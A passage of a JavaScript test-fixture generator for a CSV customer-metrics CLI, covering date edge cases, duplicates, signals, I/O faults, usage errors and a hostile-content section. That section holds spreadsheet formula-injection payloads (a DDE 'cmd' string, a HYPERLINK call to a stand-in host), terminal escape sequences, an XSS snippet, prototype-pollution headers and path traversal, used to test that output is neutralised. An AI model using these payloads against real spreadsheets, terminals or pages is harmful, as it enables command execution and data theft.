    msg: '13/04/2024 (line 7) shows day/month/year · hint: --date-format dmy',
    trap: 'per-cell guessing mixes both readings (csvkit #280, visidata #677)',
  },
);
T(cE, 'DST gap local time', 'tickets-gap.csv', TIX('t3,c1,Ana,2024-03-10T02:30:00,2024-03-10T03:30:00,true,5,'), {
  cmd: 'csm fcr FILE --timezone America/New_York',
  exit: 0,
  code: 'date/dst-gap (warning)',
  msg: '02:30 does not exist that day; read as 03:30 EDT',
});
T(
  cE,
  'DST overlap local time',
  'tickets-overlap.csv',
  TIX('t3,c1,Ana,2024-11-03T01:30:00,2024-11-03T01:15:00,true,5,'),
  {
    cmd: 'csm fcr FILE --timezone America/New_York',
    exit: 3,
    code: 'row/negative-duration',
    msg: 'first occurrence is used for both; add an offset',
  },
);
T(
  cE,
  'resolved before created',
  'tickets-neg.csv',
  TIX('t3,c1,Ana,2024-07-05T09:00:00Z,2024-07-04T09:00:00Z,true,5,'),
  { exit: 3, code: 'row/negative-duration', at: '4:32' },
);
T(cE, 'end before start', 'subs-neg.csv', SUB('u4,c4,pro,10.00,USD,2024-05-01,2024-04-01'), {
  exit: 3,
  code: 'row/negative-duration',
});
T(
  cE,
  'boolean words',
  'tickets-bool.csv',
  TIX('t3,c1,Ana,2024-07-05T09:00:00Z,,Yes,5,', 't4,c1,Ana,2024-07-05T09:00:00Z,,0,5,'),
  { exit: 0, msg: 'true/false, yes/no, y/n, 1/0 in any case' },
);
T(cE, 'boolean "maybe"', 'tickets-maybe.csv', TIX('t3,c1,Ana,2024-07-05T09:00:00Z,,maybe,5,'), {
  exit: 3,
  code: 'field/enum',
  at: '4:33',
});
T(cE, 'enum typo', 'surveys-enum.csv', S('s5,c1,npss,8,2024-07-06,x'), {
  exit: 3,
  code: 'field/enum',
  at: '6:7',
  msg: 'kind is "npss" · did you mean nps? (nps, csat, ces)',
});
T(
  cE,
  'Zod-coerced 100 kB date',
  'surveys-longdate.csv',
  S('s5,c1,nps,8,2024-01-01T00:00:00.' + '0'.repeat(100000) + 'x,x'),
  { exit: 3, code: 'date/format', msg: 'value shortened to 40 characters in the message', keeps: '< 50 ms (ReDoS)' },
);

// ---------- F. rows and files together ----------
const cF = 'cross';
T(cF, 'exact duplicate row', 'surveys-dup.csv', S(GOOD.surveys[0]), {
  exit: 0,
  code: 'row/duplicate (warning)',
  msg: 'line 6 repeats line 2; counted once',
});
T(cF, 'same id, other content', 'surveys-conflict.csv', S('s1,c1,nps,0,2024-07-02,bad'), {
  exit: 3,
  code: 'row/conflicting-id',
  at: '6:1',
  msg: 's1 is also at line 2 with score 10',
});
T(cF, 'same id in two files', null, null, {
  cmd: 'csm nps a.csv b.csv',
  exit: 3,
  code: 'row/conflicting-id',
  msg: 'b.csv:2:1 … also at a.csv:2',
});
T(cF, 'orphan customer_id', 'subs-orphan.csv', SUB('u4,c999,pro,10.00,USD,2024-02-01,'), {
  cmd: 'csm mrr FILE --customers customers.csv --by segment',
  exit: 0,
  code: 'ref/orphan (warning)',
  msg: '1 subscription has no customer: shown as segment (unknown); with --strict exit 3',
  keeps: 'total MRR includes it, so groups add up to the total',
});
T(cF, 'overlapping subscriptions of one customer+plan', 'subs-overlap.csv', SUB('u4,c1,pro,100.00,USD,2024-06-01,'), {
  exit: 0,
  code: 'sub/overlap (warning)',
});
T(cF, 'no rows in the period', 'surveys-outside.csv', S(), {
  cmd: 'csm nps FILE --period 2023',
  exit: 0,
  code: 'data/no-rows (warning)',
  msg: 'no responses in 2023; file covers 2024-07-02..2024-07-05',
});
T(cF, 'zero denominator', 'subs-zero.csv', csv('subscriptions', ['u1,c1,pro,1.00,USD,2024-07-10,']), {
  cmd: 'csm churn FILE --period 2024-07',
  exit: 0,
  msg: 'churn — (no customers at start); JSON null',
  trap: '0/0 = NaN → JSON null by accident, table prints NaN%',
});
T(cF, 'one row', 'surveys-one.csv', csv('surveys', [GOOD.surveys[0]]), {
  exit: 0,
  code: 'data/small-sample (note)',
  msg: 'NPS +100.0 (n=1)',
});
T(cF, 'shuffled rows', 'surveys-shuffled.csv', csv('surveys', GOOD.surveys.toReversed()), {
  exit: 0,
  msg: 'byte-identical JSON except inputs[].sha256',
});
T(cF, 'same rows in two files', null, null, {
  cmd: 'csm nps part1.csv part2.csv',
  exit: 0,
  msg: 'same metrics as one file',
});
T(cF, 'file kinds swapped', null, null, {
  cmd: 'csm nps tickets.csv',
  exit: 3,
  code: 'header/wrong-kind',
  msg: 'tickets.csv looks like tickets (6 of 8 columns); nps needs surveys',
});

// ---------- G. hostile content ----------
const cG = 'hostile',
  reps = (v) =>
    TIX(
      `t3,c1,${/[",\r\n]/.test(v) ? '"' + v.replaceAll('"', '""') + '"' : v},2024-07-05T09:00:00Z,2024-07-05T10:00:00Z,true,5,`,
    );
for (const v of ['=HYPERLINK("http://x.example?"&A1)', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1', '＝1+1'])
  T(cG, `formula in rep ${J(v).slice(0, 24)}`, 'tickets-formula.csv', reps(v), {
    cmd: 'csm fcr FILE --by rep -f csv',
    exit: 0,
    msg: "cell starts with ' ; --raw-cells turns it off; JSON unchanged; xlsx writes a string cell",
    keeps: 'negative NUMBERS stay numbers',
  });
for (const [t, v] of [
  ['ANSI colour + clear screen', '\x1b[2J\x1b[31mEve'],
  ['OSC title + BEL', '\x1b]0;pwned\x07Eve'],
  ['OSC 8 hyperlink', '\x1b]8;;http://evil.example\x07Eve\x1b]8;;\x07'],
  ['C1 CSI', '\u009b31mEve'],
  ['DCS', '\x1bP+q544e\x1b\\Eve'],
  ['carriage return overwrite', 'Ana\rEve'],
  ['backspaces', 'Eve\b\b\bAna'],
  ['bidi override', '\u202eevE'],
  ['newline', 'Ana\nEve'],
])
  T(cG, `terminal: ${t}`, 'tickets-term.csv', reps(v), {
    cmd: 'csm fcr FILE --by rep',
    exit: 0,
    msg: 'shown as visible symbols (␛ ␇ ⏎ \\u202e); stdout has no C0/C1/bidi control from data, also in error excerpts',
    trap: 'cli-table3 prints ESC raw; util.stripVTControlCharacters leaves BEL, BS, CR and DCS',
  });
T(cG, 'HTML in rep', 'tickets-html.csv', reps('<script>alert(1)</script><img src=x onerror=1>'), {
  cmd: 'csm report FILE -f html',
  exit: 0,
  msg: 'escaped text; page has a CSP meta without script-src from data; data block has < as \\u003c',
});
T(cG, 'Markdown in rep', 'tickets-md.csv', reps('a|b `c` [x](javascript:1) <b> ![i](http://x.example/p.png)'), {
  cmd: 'csm fcr FILE --by rep -f md',
  exit: 0,
  msg: 'pipes, backticks, brackets and < escaped: one table row, no image fetch',
});
T(cG, 'GitHub workflow command in rep', 'tickets-ghcmd.csv', reps('::error::owned'), {
  cmd: 'csm fcr FILE --by rep',
  exit: 0,
  msg: 'no output line begins with data; annotations encode % CR LF : ,',
});
T(
  cG,
  '__proto__ header',
  'surveys-protohdr.csv',
  csv(
    'surveys',
    GOOD.surveys.map((r) => r + ',x,y,z'),
    '\n',
    H.surveys + ',__proto__,constructor,toString',
  ),
  {
    exit: 0,
    msg: 'extra columns; ({}).x undefined',
    trap: 'csv-parse < 7.0.2: CVE-2026-85063 with group_columns_by_name',
  },
);
T(
  cG,
  'group named __proto__ / constructor',
  'tickets-protorep.csv',
  reps('__proto__') + 't4,c1,constructor,2024-07-05T09:00:00Z,2024-07-05T10:00:00Z,true,5,\n',
  {
    cmd: 'csm fcr FILE --by rep -f json',
    exit: 0,
    msg: 'both groups present with n=1',
    trap: 'plain-object accumulators lose or crash on them: use Map',
  },
);
T(
  cG,
  'e-mail address in an error excerpt',
  'cust-pii.csv',
  csv('customers', ['c1,Acme,ops@acme.example,smb,2024-13-01']),
  {
    cmd: 'csm validate FILE',
    exit: 3,
    code: 'date/not-in-calendar',
    at: '2:30',
    msg: 'only the bad cell is shown, not the whole row; e-mails appear as o***@a***; --show-values shows them',
    keeps: 'CI logs are public: no PII by default',
  },
);
T(cG, 'output path from data', null, null, {
  cmd: 'csm report FILE --split-by rep -o out/ (rep = ../../etc/x)',
  exit: 0,
  msg: 'file names are slugs [a-z0-9-] + hash; never a path separator',
});

// ---------- H. process, output, environment ----------
const cH = 'process';
const P = (t, cmd, e) => T(cH, t, null, null, { cmd, ...e });
P('reader goes away', 'csm tickets … -f jsonl | head -1', {
  exit: 0,
  msg: 'nothing on stderr, PIPESTATUS 0',
  trap: 'Node default: unhandled EPIPE stack trace, exit 1',
});
P('660 kB JSON into a pipe', 'csm report … -f json | wc -c', {
  exit: 0,
  msg: 'all bytes arrive',
  trap: 'process.exit() truncated this at 65 536 bytes (measured); set process.exitCode instead',
});
P('Ctrl-C', 'kill -INT during a 2 M-row read', {
  exit: 130,
  msg: 'Interrupted.',
  keeps: 'temp file removed, old output untouched, < 200 ms',
});
P('SIGTERM', 'kill -TERM', { exit: 143, keeps: 'as Ctrl-C' });
P('kill -9 while writing', 'csm report -o out.json', {
  exit: 137,
  keeps: 'out.json is the old or the new file, never a mix (temp + fsync + rename)',
});
P('disk full on -o', 'csm report -o /mnt/tiny/out.json', {
  how: 'mount -t tmpfs -o size=64k',
  exit: 4,
  code: 'io/no-space',
  keeps: 'previous out.json intact, temp removed',
});
P('stdout is /dev/full', 'csm nps f.csv > /dev/full', {
  exit: 4,
  code: 'io/no-space',
  trap: 'Node default is a stack trace',
});
P('file size limit', 'ulimit -f 100; csm report -o out.json', { exit: 4, code: 'io/too-large', msg: 'EFBIG' });
P('-o into a missing folder', 'csm nps f.csv -o no/such/x.json', {
  exit: 4,
  code: 'io/not-found',
  msg: 'folder no/such does not exist',
});
P('-o is a folder', 'csm nps f.csv -o .', { exit: 4, code: 'io/is-directory' });
P('-o is an input', 'csm nps f.csv -o f.csv', {
  exit: 2,
  code: 'usage/output-is-input',
  keeps: 'input untouched (checked by dev+ino)',
});
P('-o is a symlink', 'csm nps f.csv -o link.json', { exit: 0, keeps: 'the target is replaced, the link stays a link' });
P('two runs, one -o', 'csm … -o x.json & csm … -o x.json', {
  exit: 0,
  keeps: 'x.json is one whole run (unique temp names)',
});
P('stdout closed', 'csm nps f.csv >&-', {
  exit: 0,
  msg: 'Node opens the null device for a closed descriptor: it cannot be told',
});
P('stdin closed', 'csm nps - <&-', { exit: 3, code: 'csv/empty' });
P('TZ differs', 'for TZ in UTC America/New_York Asia/Tokyo Pacific/Kiritimati', {
  exit: 0,
  msg: 'byte-identical output',
  trap: 'new Date("2024-07-01") is June in New York',
});
P('LANG/LC_ALL differ', 'LC_ALL=de_DE.UTF-8 / C / tr_TR', {
  exit: 0,
  msg: 'byte-identical (no toLocaleString, no locale sort)',
});
P('NO_COLOR=1 on a terminal', 'NO_COLOR=1 csm nps f.csv', {
  how: 'script -qec',
  exit: 0,
  msg: 'no ESC byte',
  trap: 'chalk 5.6.2 IGNORES NO_COLOR (measured level 2)',
});
P('NO_COLOR= (empty)', 'NO_COLOR= csm nps f.csv', {
  how: 'pty',
  exit: 0,
  msg: 'colour stays on (no-color.org: non-empty)',
  trap: 'Node getColorDepth treats empty as set',
});
P('FORCE_COLOR=1 in a pipe', 'FORCE_COLOR=1 csm nps f.csv | cat', {
  exit: 0,
  msg: 'colour on for table; never for json/csv/md',
});
P('NO_COLOR=1 FORCE_COLOR=1', 'both', {
  exit: 0,
  msg: 'colour off: NO_COLOR wins; no Node warning line',
  trap: 'Node prints a process warning to stderr',
});
P('TERM=dumb', 'TERM=dumb csm trend …', { exit: 0, msg: 'no colour, ASCII sparkline and borders' });
P('20-column terminal', 'COLUMNS=20', { exit: 0, msg: 'vertical record layout; no crash, no cut number' });
P('HOME unset, cwd read-only', 'env -i PATH=$PATH csm nps f.csv', { exit: 0 });
P('128 MB heap, 2 M rows', 'node --max-old-space-size=128 csm nps big.csv', {
  exit: 0,
  keeps: 'streaming: heap does not grow with rows',
});
P('bug inside csm', 'CSM_TEST_CRASH=1 (test build only)', {
  exit: 70,
  code: 'internal',
  msg: 'csm hit a bug: <message> · version, node, command, no data values · run with --debug for the stack',
});

// ---------- I. command line ----------
const cI = 'usage',
  U = (t, cmd, e) => T(cI, t, null, null, { cmd, exit: 2, ...e });
U('unknown command', 'csm chrun', { code: 'usage/unknown-command', msg: 'did you mean churn?' });
U('unknown flag', 'csm churn --perod 2024', {
  code: 'usage/unknown-flag',
  msg: 'did you mean --period?',
  trap: 'commander exits 1; map with exitOverride',
});
U('month 13', 'csm churn s.csv --period 2024-13', { code: 'usage/period', msg: 'month must be 01–12' });
U('reversed range', 'csm churn s.csv --period 2024-07..2024-01', {
  code: 'usage/period',
  msg: 'ends before it starts · did you mean 2024-01..2024-07?',
});
U('nonsense period', 'csm churn s.csv --period soon', {
  code: 'usage/period',
  msg: 'examples: 2024-07, 2024Q3, 2024-01..2024-06, last-month',
});
U('two periods', 'csm churn s.csv --period 2024 --from 2024-01-01', { code: 'usage/conflict' });
U('unknown format', 'csm nps f.csv -f yml', {
  code: 'usage/format',
  msg: 'table, json, jsonl, json-rows, csv, tsv, md, html, xlsx',
});
U('unknown --by', 'csm nps f.csv --by rap', { code: 'usage/by', msg: 'did you mean rep? columns: …' });
U('no input at all', 'csm nps', { code: 'usage/no-input', msg: 'shows the 2-line usage + csm demo' });
U('unknown key in config', 'csm.config.json {"treshold":1}', {
  code: 'config/unknown-key',
  msg: 'csm.config.json:2:3 did you mean thresholds?',
});
U('bad environment value', 'CSM_FORMAT=bogus', { code: 'usage/format', msg: 'names the variable CSM_FORMAT' });
U('config is JavaScript', 'csm.config.js present', {
  code: 'config/not-data',
  msg: 'csm reads JSON config only (never runs code)',
});
T(cI, 'threshold broken', null, null, {
  cmd: 'csm check … (nps min 30, found 25)',
  exit: 1,
  code: 'check/failed',
  msg: 'FAIL nps 25.0 < 30 (min)',
});
T(cI, 'threshold warning only', null, null, { cmd: 'csm check … level warn', exit: 0, code: 'check/warned' });
T(cI, 'threshold on a metric without data', null, null, {
  cmd: 'csm check …',
  exit: 1,
  code: 'check/no-data',
  msg: 'no data is a failure unless allowEmpty',
});
T(cI, 'threshold AND bad data', null, null, {
  cmd: 'csm check …',
  exit: 3,
  code: 'data first',
  msg: 'a number from rejected data is never compared',
});

if (BIG) {
  const f = M.find((m) => /1gb/.test(m.file ?? ''));
  if (f) {
    const fd = fs.openSync(path.join(OUT, f.file), 'w');
    fs.writeSync(fd, H.surveys + '\ns1,c1,nps,10,2024-07-02,"');
    const b = Buffer.alloc(1 << 20, 120);
    for (let i = 0; i < 1024; i++) fs.writeSync(fd, b);
    fs.closeSync(fd);
  }
}
fs.writeFileSync(path.join(OUT, 'customers.csv'), csv('customers'));
fs.writeFileSync(path.join(OUT, 'surveys.csv'), csv('surveys'));
fs.writeFileSync(path.join(OUT, 'tickets.csv'), csv('tickets'));
fs.writeFileSync(path.join(OUT, 'subscriptions.csv'), csv('subscriptions'));
fs.writeFileSync(
  path.join(OUT, 'manifest.json'),
  JSON.stringify(
    {
      schema: 'csm-torture@1',
      exitCodes: {
        0: 'done',
        1: 'check failed',
        2: 'usage or config',
        3: 'data invalid',
        4: 'cannot read or write',
        70: 'bug',
        130: 'SIGINT',
        143: 'SIGTERM',
      },
      columns: SCHEMA,
      cases: M,
    },
    null,
    1,
  ),
);
const esc = (s) =>
  String(s ?? '')
    .replace(
      /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\ufeff]/g,
      (c) => '\\u' + c.codePointAt(0).toString(16).padStart(4, '0'),
    )
    .replaceAll('|', '\\|')
    .replaceAll('<', '&lt;');
fs.writeFileSync(
  path.join(OUT, 'TABLE.md'),
  '| # | class | input or fault | exit | code | at | required behaviour (message shape; what is kept) | library trap measured/known |\n|---|---|---|---|---|---|---|---|\n' +
    M.map(
      (m) =>
        `| ${m.id} | ${m.class} | ${esc(m.title)}${m.file ? ' 📄' : ''}${m.setup ? ' (' + esc(m.setup) + ')' : ''} | ${m.expect.exit} | ${esc(m.expect.code)} | ${m.expect.at ?? ''} | ${esc([m.expect.message, m.expect.keeps && 'kept: ' + m.expect.keeps].filter(Boolean).join('; '))} | ${esc(m.trap)} |`,
    ).join('\n') +
    '\n',
);
const by = M.reduce((a, m) => a.set(m.class, (a.get(m.class) ?? 0) + 1), new Map());
process.stdout.write(`${M.length} cases, ${M.filter((m) => m.file).length} files -> ${OUT} (${[...by].join('; ')})\n`);
